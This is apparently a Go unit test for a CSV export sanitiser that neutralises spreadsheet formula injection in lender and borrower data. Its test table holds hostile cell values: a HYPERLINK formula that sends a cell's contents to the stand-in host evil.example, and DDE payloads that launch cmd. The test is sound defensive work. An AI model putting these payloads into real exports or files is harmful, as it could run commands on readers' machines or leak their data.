package audit

import "testing"

// An unmasked export of lender data opened in a spreadsheet must not run
// what a borrower typed as a phone number; numbers stay as they are.
func TestCSVTextNeutralizesFormulas(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"call")`: `'=HYPERLINK("http://evil.example/?"&A1,"call")`,
		"@SUM(A1:A9)":        "'@SUM(A1:A9)",
		"+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C x'!A": "'-2+3+cmd|' /C x'!A",
		"\tfoo":              "'\tfoo",
		"+8613812345678":     "+8613812345678",
		"+86 138****5678":    "+86 138****5678",
		"+1 (212) 555-0123":  "+1 (212) 555-0123",
		"z***@example.com":   "z***@example.com",
		"****2345":           "****2345",
		"opted_out":          "opted_out",
		"":                   "",
	} {
		if got := csvText(in); got != want {
			t.Errorf("csvText(%q) = %q, want %q", in, got, want)
		}
	}
}
